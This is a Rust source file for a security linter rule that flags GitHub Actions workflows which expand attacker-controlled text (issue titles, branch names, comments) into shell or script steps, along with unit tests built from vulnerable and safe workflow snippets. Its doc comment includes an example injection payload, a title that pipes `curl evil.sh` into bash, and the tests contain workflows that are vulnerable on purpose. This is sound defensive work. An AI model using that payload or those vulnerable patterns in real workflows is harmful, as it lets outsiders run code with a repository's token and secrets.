use super::expr::{self, Control};
use super::{scope, Expr, Job, Model, Step};
use rampart_core::{Confidence, Finding, Severity};

rampart_core::declare_rule! {
    /// ## What it does
    /// Finds `${{ }}` expressions that expand attacker-controlled text (issue and pull request
    /// titles and bodies, comments, branch names, commit messages, author names) directly into a
    /// `run:` script or the `script:` of `actions/github-script`, including through an `env.*`
    /// variable that holds such text.
    ///
    /// ## Why is this bad
    /// Expressions are substituted into the script before the shell or Node.js sees it. A pull
    /// request titled `"; curl evil.sh | bash; echo "` becomes code that runs with the workflow's
    /// token and secrets. In `issue_comment`, `issues` and `pull_request_target` workflows anyone
    /// with a GitHub account can trigger this.
    ///
    /// ## Example
    /// ```yaml
    /// on: issues
    /// jobs:
    ///   triage:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "New issue: ${{ github.event.issue.title }}"
    /// ```
    ///
    /// ## Fix
    /// Pass the value through an environment variable and quote it in the shell:
    /// ```yaml
    ///       - env:
    ///           TITLE: ${{ github.event.issue.title }}
    ///         run: echo "New issue: $TITLE"
    /// ```
    ///
    /// ## References
    /// - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
    /// - https://securitylab.github.com/resources/github-actions-untrusted-input/
    /// - https://cwe.mitre.org/data/definitions/94.html
    pub static RULE = {
        id: "gha-template-injection",
        name: "GhaTemplateInjection",
        cwe: 94,
        other_cwes: [78],
        severity: High,
        languages: [GithubActions],
        summary: "Attacker-controlled `${{ }}` expression expanded into a script",
        help: "Pass the value through `env:` and reference it as a quoted shell variable",
    }
}

/// Events in which any part of the payload may be attacker-written (for `toJSON(github.event)`).
const EXTERNAL_EVENTS: &[&str] = &[
    "issues",
    "issue_comment",
    "pull_request",
    "pull_request_target",
    "pull_request_review",
    "pull_request_review_comment",
    "discussion",
    "discussion_comment",
    "workflow_run",
    "push",
    "gollum",
];

/// How an attacker-controlled value reaches an expression.
struct Reach {
    context: String,
    via_env: Option<String>,
    /// Only through `pull_request`/`workflow_call`, where the blast radius is smaller or unknown.
    reduced: bool,
}

/// Inputs of popular actions that run their value as code (the sinks CodeQL and zizmor know).
const CODE_INPUTS: &[(&str, &str)] = &[
    ("actions/github-script", "script"),
    ("mikefarah/yq", "cmd"),
    ("sergeysova/jq-action", "cmd"),
    ("addnab/docker-run-action", "run"),
    ("appleboy/ssh-action", "script"),
    ("garygrossgarten/github-action-ssh", "command"),
    ("azure/cli", "inlinescript"),
    ("azure/powershell", "inlinescript"),
    ("nick-fields/retry", "command"),
    ("nick-invision/retry", "command"),
    ("wandalen/wretry.action", "command"),
    ("uraimo/run-on-arch-action", "run"),
    ("cross-platform-actions/action", "run"),
    ("devcontainers/ci", "runcmd"),
    ("jannekem/run-python-script-action", "script"),
    ("google-github-actions/ssh-compute", "command"),
];

pub fn check(wf: &Model, out: &mut Vec<Finding>) {
    for job in &wf.jobs {
        for step in &job.steps {
            if let Some(run) = &step.run {
                for e in &run.exprs {
                    report(wf, job, step, e, "`run` script".to_string(), out);
                }
            }
            let Some(action) = step.action() else {
                continue;
            };
            for input in &step.with {
                let key = input.key.to_ascii_lowercase();
                if !CODE_INPUTS.iter().any(|(a, k)| *a == action && *k == key) {
                    continue;
                }
                for e in input.value.iter().flat_map(|t| &t.exprs) {
                    let sink = format!("`{}` code of `{action}`", input.key);
                    report(wf, job, step, e, sink, out);
                }
            }
        }
    }
}

fn report(wf: &Model, job: &Job, step: &Step, e: &Expr, sink: String, out: &mut Vec<Finding>) {
    let Some(reach) = attacker_reach(wf, job, step, &e.source, 0) else {
        return;
    };
    let what = match &reach.via_env {
        Some(name) => format!(
            "`${{{{ {} }}}}` (`{name}`, set from attacker-controlled `{}`)",
            e.source, reach.context
        ),
        None if e.source.eq_ignore_ascii_case(&reach.context) => {
            format!("Attacker-controlled `${{{{ {} }}}}`", e.source)
        }
        None => format!(
            "`${{{{ {} }}}}` (attacker-controlled `{}`)",
            e.source, reach.context
        ),
    };
    let message = format!(
        "{what} is expanded into the {sink} of step {} in job {} of workflow `{}`",
        step.label(),
        job.label(),
        wf.name
    );
    let mut b = wf
        .finding(&RULE, e.span, scope(job, Some(step)), message)
        .anchor(e.source.clone())
        .source(reach.context.clone());
    if reach.reduced {
        b = b.severity(Severity::Medium).confidence(Confidence::Medium);
    } else if trusted_actor_only(job, step) {
        b = b.confidence(Confidence::Medium);
    }
    out.push(b.build());
}

/// `if:` conditions that let only maintainers trigger the job or step.
fn trusted_actor_only(job: &Job, step: &Step) -> bool {
    [job.if_cond.as_deref(), step.if_cond.as_deref()]
        .into_iter()
        .flatten()
        .any(|c| {
            c.contains("author_association")
                || c.contains("github.actor ==")
                || c.contains("github.triggering_actor ==")
                || c.contains("sender.login ==")
        })
}

/// The first attacker-controlled context an expression's value can come from.
fn attacker_reach(wf: &Model, job: &Job, step: &Step, source: &str, depth: usize) -> Option<Reach> {
    let sources = expr::value_sources(source).unwrap_or_else(|| expr::mentioned_contexts(source));
    for ctx in sources {
        match expr::classify(&ctx) {
            (Control::Attacker, events) => {
                let events = if events.is_empty() {
                    EXTERNAL_EVENTS
                } else {
                    events
                };
                if let Some(reduced) = reachable(wf, events) {
                    return Some(Reach {
                        context: ctx,
                        via_env: None,
                        reduced,
                    });
                }
            }
            (Control::Env, _) if depth < 3 => {
                let name = ctx
                    .trim_start_matches("env.")
                    .split('.')
                    .next()
                    .unwrap_or("");
                let var = wf.env_value(job, Some(step), name)?;
                let value = var.value.as_ref()?;
                for inner in &value.exprs {
                    if let Some(r) = attacker_reach(wf, job, step, &inner.source, depth + 1) {
                        return Some(Reach {
                            via_env: Some(var.name.clone()),
                            ..r
                        });
                    }
                }
            }
            _ => {}
        }
    }
    None
}

/// Triggers in which anyone with a GitHub account controls the text and the workflow runs
/// with the base repository's token and secrets.
const OUTSIDER_PRIVILEGED: &[&str] = &[
    "issues",
    "issue_comment",
    "pull_request_target",
    "pull_request_review",
    "pull_request_review_comment",
    "discussion",
    "discussion_comment",
    "workflow_run",
    "gollum",
    "check_suite",
    "check_run",
];

/// Whether the workflow's triggers can carry attacker input into these events' fields:
/// `Some(false)` through a trigger outsiders control in a privileged context, `Some(true)`
/// only through `pull_request` (fork code already runs there), `push` (text from
/// collaborators or merged pull requests) or an unknown caller, `None` when impossible.
fn reachable(wf: &Model, events: &[&str]) -> Option<bool> {
    if wf.triggers.is_empty() {
        return Some(true);
    }
    let matching: Vec<&str> = wf
        .triggers
        .iter()
        .map(|t| t.event.as_str())
        .filter(|e| events.contains(e))
        .collect();
    if matching.iter().any(|e| OUTSIDER_PRIVILEGED.contains(e)) {
        return Some(false);
    }
    if !matching.is_empty() || wf.has_trigger("workflow_call") {
        return Some(true);
    }
    None
}

#[cfg(test)]
mod tests {
    use super::super::testing::run;
    use rampart_core::Severity;

    const ID: &str = "gha-template-injection";

    #[test]
    fn flags_issue_title_in_run() {
        let f = run(
            ID,
            r#"name: Issue triage
on:
  issues:
    types: [opened]
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - name: Log issue
        run: |
          echo "New issue opened"
          echo "Title: ${{ github.event.issue.title }}"
"#,
        );
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].location.span.start_line, 12);
        assert!(f[0].message.contains("github.event.issue.title"));
        assert!(f[0].message.contains("`Log issue`"));
        assert!(f[0].message.contains("`triage`"));
        assert_eq!(f[0].severity, Severity::High);
    }

    #[test]
    fn flags_head_ref_and_github_script_and_env_indirection() {
        let f = run(
            ID,
            r#"on: pull_request_target
env:
  BRANCH: ${{ github.head_ref }}
jobs:
  comment:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@v7
        with:
          script: |
            const body = `${{ github.event.pull_request.body }}`;
            await github.rest.issues.createComment({ body });
      - run: git push origin HEAD:${{ env.BRANCH }}
      - run: echo ${{ format('Branch {0}', github.event.pull_request.head.ref) }}
"#,
        );
        assert_eq!(f.len(), 3, "{f:#?}");
        assert!(f[1].message.contains("BRANCH"));
    }

    #[test]
    fn flags_other_code_running_action_inputs() {
        let f = run(
            ID,
            "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: mikefarah/yq@v4\n        with:\n          cmd: yq '.title = \"${{ github.event.pull_request.title }}\"' data.yml\n      - uses: peter-evans/create-or-update-comment@v4\n        with:\n          body: Thanks for ${{ github.event.pull_request.title }}\n",
        );
        assert_eq!(f.len(), 1);
        assert!(f[0].message.contains("`cmd` code of `mikefarah/yq`"));
    }

    #[test]
    fn pull_request_only_is_reduced() {
        let f = run(
            ID,
            "on: pull_request\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.head_ref }}\n",
        );
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].severity, Severity::Medium);
    }

    #[test]
    fn commit_messages_on_push_are_reduced() {
        let f = run(
            ID,
            "on:\n  push:\n    branches: [main]\njobs:\n  notify:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./notify.sh \"${{ github.event.head_commit.message }}\"\n",
        );
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].severity, Severity::Medium);
    }

    #[test]
    fn safe_contexts_and_env_passing_are_not_flagged() {
        let f = run(
            ID,
            r#"on:
  issues:
  pull_request_target:
jobs:
  triage:
    runs-on: ubuntu-latest
    if: contains(github.event.issue.title, 'bug')
    steps:
      - env:
          TITLE: ${{ github.event.issue.title }}
        run: echo "Title: $TITLE"
      - run: |
          echo "${{ github.sha }} ${{ github.run_id }} ${{ github.event.issue.number }}"
          echo "${{ github.event.pull_request.head.sha }}"
          echo "${{ contains(github.event.issue.title, 'bug') }}"
          echo "${{ github.event.issue.title == 'x' }}"
          echo "${{ steps.meta.outputs.version }} ${{ env.NODE_VERSION }}"
"#,
        );
        assert!(f.is_empty(), "{f:#?}");
    }

    #[test]
    fn context_needs_a_matching_trigger() {
        let f = run(
            ID,
            "on:\n  workflow_dispatch:\n  schedule:\n    - cron: '0 0 * * *'\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n",
        );
        assert!(f.is_empty());
    }
}
